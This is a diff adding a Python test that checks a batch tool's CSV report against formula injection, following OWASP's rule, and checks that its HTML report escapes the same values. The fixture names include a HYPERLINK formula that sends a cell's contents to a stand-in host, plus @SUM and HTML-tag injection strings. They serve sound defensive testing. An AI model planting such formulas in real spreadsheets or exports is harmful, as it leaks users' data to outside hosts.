@@ -551,3 +551,41 @@ def test_on_progress_is_told_each_unit(tmp_path):
         (folder / name).write_bytes((EXAMPLES / name).read_bytes())
     run_batch(folder, tmp_path / "out", ("docx",), jobs=1, progress_stream=None, on_progress=lambda d, t: seen.append((d, t)))
     assert seen == [(0, 2), (1, 2), (2, 2)]
+
+
+# ---------------------------------------------------------------- the report holds no formula
+
+FORMULA_NAMES = {   # data file -> 单位名称: each starts with a character a spreadsheet takes for a formula
+    "=cmd.yaml": '=HYPERLINK("http://example.invalid/?q="&A1,"点我")中心',
+    "at.yaml": "@SUM(1+1)<b>招商</b>中心",
+    "minus.yaml": "-2+3测试中心",
+    "plus.yaml": "+1测试中心",
+}
+
+
+def test_report_csv_cells_never_start_a_formula_and_the_html_escapes(tmp_path):
+    """OWASP's CSV-injection rule: a text cell starting with = + - @ (tab, CR) gets a leading ';
+    the numbers (row, counts) stay numbers. The HTML report escapes the same names."""
+    units = tmp_path / "units"
+    write_units(units, {rel: ("xincailiao", f"'{name}'", None, None) for rel, name in FORMULA_NAMES.items()})
+    out = tmp_path / "out"
+    proc = run_batch(units, "--out", out, "--format", "docx", "--jobs", "2")
+    assert proc.returncode == 0, (proc.stdout, proc.stderr)
+    raw = (out / "batch-report.csv").read_bytes().decode("utf-8-sig")
+    rows = list(csv.reader(raw.splitlines(keepends=True)))
+    assert rows[0] == batch.CSV_COLUMNS
+    by_file = {row[2]: row for row in rows[1:]}
+    assert sorted(by_file) == ["'=cmd.yaml", "at.yaml", "minus.yaml", "plus.yaml"]
+    for rel, name in FORMULA_NAMES.items():
+        row = by_file["'" + rel if rel.startswith("=") else rel]
+        assert row[1] == "'" + name                               # 单位名称, shown as text
+        assert row[7] and all(o.startswith("'") or not o.startswith(batch.report.FORMULA_STARTS)
+                              for o in row[7].split("\n"))
+        assert row[7].startswith("'") == name.startswith(("=", "+", "-", "@"))   # file names keep the sign
+        assert row[0].isdigit() and row[4] == "0"                 # numbers written as numbers
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+    html = (out / "batch-report.html").read_text(encoding="utf-8")
+    assert "@SUM(1+1)&lt;b&gt;招商&lt;/b&gt;中心" in html and "<b>招商" not in html
+    assert "=HYPERLINK(&#34;http://example.invalid/?q=&#34;&amp;A1" in html
